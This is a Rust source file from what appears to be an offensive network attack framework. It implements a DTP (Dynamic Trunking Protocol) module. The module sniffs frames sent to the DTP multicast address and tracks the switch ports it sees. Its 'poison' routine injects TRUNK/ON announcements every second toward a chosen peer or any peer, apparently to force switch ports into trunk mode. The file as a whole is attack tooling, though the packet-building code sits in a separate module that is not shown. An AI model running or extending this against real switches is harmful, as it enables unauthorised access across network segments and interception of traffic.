//! DTP Protocol Implementation
//!
//! Claims every frame sent to the DTP multicast address at the Ethernet layer
//! and keeps a table of the switch ports announcing trunk negotiation.

use async_trait::async_trait;
use loki_core::{
    Error, InjectorHandle, Interface, Layer, LayerHook, MacAddr, ModuleContext, ModuleHooks,
    PacketView, ProtocolModule, Result, Verdict,
};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;
use tracing::info;

use super::attack::{DtpCommand, DtpPeer, DtpWorker, PoisonTarget, MODULE};
use super::packet::{DtpPacket, DTP_MULTICAST_MAC};
use crate::runtime::{Mailbox, SharedSettings, TaskHandle};

#[derive(Debug, Clone)]
pub struct DtpConfig {
    /// Poison PDU interval
    pub period: Duration,
}

impl Default for DtpConfig {
    fn default() -> Self {
        Self {
            period: Duration::from_secs(1),
        }
    }
}

struct DtpHook {
    mailbox: Mailbox<DtpCommand>,
}

impl LayerHook for DtpHook {
    fn check(&self, packet: &PacketView<'_>) -> Verdict {
        if packet.ethernet.dst == DTP_MULTICAST_MAC {
            Verdict::CLAIM
        } else {
            Verdict::SKIP
        }
    }

    fn handle(&self, packet: &PacketView<'_>) -> Result<()> {
        let pdu = DtpPacket::from_ethernet(&packet.ethernet)?;
        self.mailbox.send(DtpCommand::Observed {
            source: packet.ethernet.src,
            packet: pdu,
        });
        Ok(())
    }
}

/// DTP Protocol Implementation
pub struct DtpModule {
    config: DtpConfig,
    context: ModuleContext,
    settings: SharedSettings,
    task: Mutex<Option<TaskHandle<DtpCommand>>>,
}

impl DtpModule {
    pub fn new(config: DtpConfig, context: ModuleContext) -> Self {
        Self {
            config,
            context,
            settings: SharedSettings::default(),
            task: Mutex::new(None),
        }
    }

    fn mailbox(&self) -> Result<Mailbox<DtpCommand>> {
        self.task
            .lock()
            .as_ref()
            .map(TaskHandle::mailbox)
            .ok_or_else(|| Error::module_state(MODULE, "not running"))
    }

    /// Start announcing TRUNK/ON, toward `target` when given
    pub async fn poison(&self, target: Option<MacAddr>) -> Result<()> {
        let target = target.map_or(PoisonTarget::Any, PoisonTarget::Peer);
        let accepted = self
            .mailbox()?
            .request(|reply| DtpCommand::Poison(target, reply))
            .await?;
        match target {
            PoisonTarget::Peer(mac) if !accepted => Err(Error::NotFound(format!("DTP peer {}", mac))),
            _ => Ok(()),
        }
    }

    /// Stop the poisoning sender and clear the poisoned marker
    pub fn stop_poison(&self) -> Result<()> {
        self.mailbox()?.send(DtpCommand::StopPoison);
        Ok(())
    }

    pub async fn peers(&self) -> Result<Vec<DtpPeer>> {
        self.mailbox()?.request(DtpCommand::Peers).await
    }
}

#[async_trait]
impl ProtocolModule for DtpModule {
    fn name(&self) -> &'static str {
        MODULE
    }

    fn hooks(&self) -> ModuleHooks {
        match self.mailbox() {
            Ok(mailbox) => {
                ModuleHooks::new().with(Layer::Ethernet, Arc::new(DtpHook { mailbox }))
            }
            Err(_) => ModuleHooks::new(),
        }
    }

    async fn start(&self) -> Result<()> {
        if self.task.lock().is_some() {
            return Err(Error::module_state(MODULE, "already running"));
        }
        let settings = self.settings.snapshot();
        let worker = DtpWorker {
            peers: BTreeMap::new(),
            poison: None,
            injector: settings.injector(MODULE),
            mac: settings.mac(),
            context: self.context.clone(),
        };
        let period = self.config.period;
        let task = TaskHandle::spawn(MODULE, move |inbox| worker.run(inbox, period));
        *self.task.lock() = Some(task);
        info!(module = MODULE, "DTP module started");
        Ok(())
    }

    async fn stop(&self) -> Result<()> {
        let task = self.task.lock().take();
        if let Some(task) = task {
            task.shutdown().await?;
            info!(module = MODULE, "DTP module stopped");
        }
        Ok(())
    }

    fn set_interface(&self, interface: &Interface) {
        let interface = interface.clone();
        self.settings.update(|s| s.interface = Some(interface));
    }

    fn set_injector(&self, injector: InjectorHandle) {
        self.settings.update(|s| s.injector = Some(injector));
    }
}
